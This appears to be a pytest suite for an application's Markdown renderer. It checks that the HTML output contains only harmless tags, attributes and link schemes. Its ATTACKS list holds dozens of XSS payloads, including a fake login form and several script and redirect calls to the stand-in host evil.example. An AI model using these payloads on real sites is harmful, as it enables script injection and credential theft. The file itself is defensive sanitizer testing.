"""Markdown becomes HTML that a browser may show: read back with a real parser, nothing in it acts."""

from html.parser import HTMLParser
from time import process_time

import pytest

from app import markdown

HARMLESS_TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code"),
    *("strong", "em", "s", "a", "img", "table", "thead", "tbody", "tr", "th", "td"),
}
HARMLESS_ATTRIBUTES = {"href", "src", "alt", "title", "rel", "start", "class"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"//',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=position:fixed;inset:0>cover</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=https://evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "</p></div><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( \x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/login)",
    "[x](/api/v1/auth/logout-all)",
    "[x](ftp://evil.example)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](mailto:a@example.org)",
    "![x](/api/v1/auth/logout)",
    '![x" onerror="alert(1)](https://e.example/a.png)',
    '![x](https://e.example/a.png "y\\" onerror=\\"alert(1)")',
    '[x](https://e.example "y" onclick="alert(1)")',
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```x onclick=alert(1)\ncode\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <svg/onload=alert(1)>",
    "> <iframe src=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
]


class Reader(HTMLParser):
    """Every tag and attribute, as a browser would come by them."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes, self.other = set(), [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, text):
        self.other.append(text)

    handle_decl = handle_pi = unknown_decl = handle_comment


def addresses(html, name):
    return [value for _, attribute, value in Reader(html).attributes if attribute == name]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_the_html_acts(attack):
    read = Reader(markdown.render(f"Before.\n\n{attack}\n\nAfter {attack} it."))

    assert read.tags <= HARMLESS_TAGS
    assert {name for _, name, _ in read.attributes} <= HARMLESS_ATTRIBUTES
    assert read.other == []
    for tag, name, value in read.attributes:
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:"))
        if name == "src":
            assert tag == "img"
            assert value.startswith(("http://", "https://"))
        if name == "class":
            assert value.startswith("language-")


def test_the_reader_would_notice_an_attack():
    """The corpus above proves something only if the reader sees what raw HTML brings."""
    seen = Reader("<p><img src=x onerror=alert(1)><script>1</script><!--x--></p>")

    assert seen.tags == {"p", "img", "script"}
    assert ("img", "onerror", "alert(1)") in seen.attributes
    assert seen.other == ["x"]


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("# Accounting", "<h1>Accounting</h1>\n"),
        ("a *b* **c** ~~d~~ `e`", "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("```python\n1 < 2\n```", '<pre><code class="language-python">1 &lt; 2\n</code></pre>\n'),
        ("2 < 3 & 4", "<p>2 &lt; 3 &amp; 4</p>\n"),
        ("", ""),
    ],
)
def test_what_authors_write_is_shown(source, html):
    assert markdown.render(source) == html


def test_tables_are_shown():
    assert Reader(markdown.render("| a |\n|---|\n| 1 |")).tags == {
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }


@pytest.mark.parametrize(
    "address", ["https://example.org/a?b=1&c=2", "http://example.org", "mailto:a@example.org"]
)
def test_links_are_kept_and_vouch_for_nothing(address):
    html = markdown.render(f"[read]({address})")

    assert addresses(html, "href") == [address]
    assert addresses(html, "rel") == ["noopener nofollow"]


def test_images_of_the_web_are_kept():
    html = markdown.render('![A chart](HTTPS://example.org/a.png "Sales")')

    assert [value.lower() for value in addresses(html, "src")] == ["https://example.org/a.png"]
    assert addresses(html, "alt") == ["A chart"]


@pytest.mark.parametrize("unit", ["[", "*a ", ">", "![a](", "_a*", "<!--", "[]("])
def test_rendering_takes_time_in_proportion_to_the_text(unit):
    def seconds(length):
        started = process_time()
        markdown.render((unit * length)[:length])
        return process_time() - started

    assert seconds(80_000) < 20 * seconds(8_000) + 0.5
